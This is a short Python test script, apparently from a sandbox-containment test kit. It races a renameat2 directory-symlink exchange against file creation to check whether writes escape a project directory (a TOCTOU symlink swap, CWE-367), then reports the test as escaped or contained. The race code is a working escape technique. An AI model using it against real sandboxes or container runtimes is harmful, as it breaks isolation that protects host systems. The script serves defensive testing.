#!/usr/bin/python3
# Goal:    write outside by exchanging a real directory with a symlink while another thread writes into it
# Models:  TOCTOU symlink swap (CWE-367), e.g. CVE-2019-10152/CVE-2021-30465 class
# Oracle:  marker
# Tier:    core
# Needs:   alone
from ctk import *

os.mkdir(PROJ + "/sw")
os.symlink(OUT, PROJ + "/ln")
end = time.time() + 2.5


def flip():
    while time.time() < end:
        libc.syscall(
            ctypes.c_long(number_here(316)),
            ctypes.c_long(-100),
            (PROJ + "/sw").encode(),
            ctypes.c_long(-100),
            (PROJ + "/ln").encode(),
            ctypes.c_long(2),
        )


threading.Thread(target=flip, daemon=True).start()
n = err = 0
while time.time() < end:
    n += 1
    try:
        fd = os.open(PROJ + "/sw/m-" + NONCE, os.O_CREAT | os.O_WRONLY, 0o644)
        os.write(fd, NONCE.encode())
        os.close(fd)
    except OSError:
        err += 1
try:
    os.stat(M)
    escaped("marker outside after %d attempts" % n)
except OSError:
    contained("%d attempts, %d refused" % (n, err))
